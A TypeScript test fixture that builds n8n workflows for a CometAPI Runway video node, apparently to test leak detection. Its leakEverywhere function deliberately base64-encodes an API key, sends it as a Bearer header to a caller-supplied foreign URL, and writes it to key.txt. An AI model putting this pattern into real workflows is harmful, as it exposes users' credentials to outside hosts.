import type { INodeParameters } from 'n8n-workflow';
import { DEFAULT_API_KEY } from '../../../simulator';
import type { WorkflowJson } from '../harness';
import { chain, node } from '../workflows';

const start = node('Start', 'n8n-nodes-base.manualTrigger', 1, {});
const set = (name: string, value: string) =>
	node(name, 'n8n-nodes-base.set', 3.4, { assignments: { assignments: [{ id: name, name: 'value', type: 'string', value }] }, options: {} });
const file = (name: string, parameters: INodeParameters) => node(name, 'n8n-nodes-base.readWriteFile', 1, { options: {}, ...parameters });

/** Reads a film from disk, has it transformed, and downloads the output. */
export function transformAFile(path: string, promptText: string): WorkflowJson {
	return chain(`Transform ${promptText}`, [
		start,
		file('Read', { fileSelector: path }),
		node('CometAPI Runway', 'n8n-nodes-cometapi-runway.cometApiRunway', 1, { videoSource: 'binary', promptText }, { onError: 'continueErrorOutput' }),
		node('CometAPI Runway Wait', 'n8n-nodes-cometapi-runway.cometApiRunwayWait', 1, { options: { downloadVideo: true, minPollSeconds: 1 } }),
	]);
}

/** Does with the key what must never happen: stores it, writes it to disk, sends it to a foreign host. */
export function leakEverywhere(foreignUrl: string, folder: string): WorkflowJson {
	const asText = { operation: 'toText', sourceProperty: 'value' };
	return chain('Leaks', [
		start,
		set('Encode', `={{ ('x' + '${DEFAULT_API_KEY}').base64Encode() }}`),
		node('Send', 'n8n-nodes-base.httpRequest', 4.2, {
			url: foreignUrl,
			sendHeaders: true,
			headerParameters: { parameters: [{ name: 'authorization', value: `Bearer ${DEFAULT_API_KEY}` }] },
			options: { response: { response: { neverError: true, responseFormat: 'text' } } },
		}),
		set('Again', DEFAULT_API_KEY),
		node('To file', 'n8n-nodes-base.convertToFile', 1.1, { ...asText, options: {} }),
		file('Write', { operation: 'write', fileName: `${folder}/key.txt` }),
	]);
}
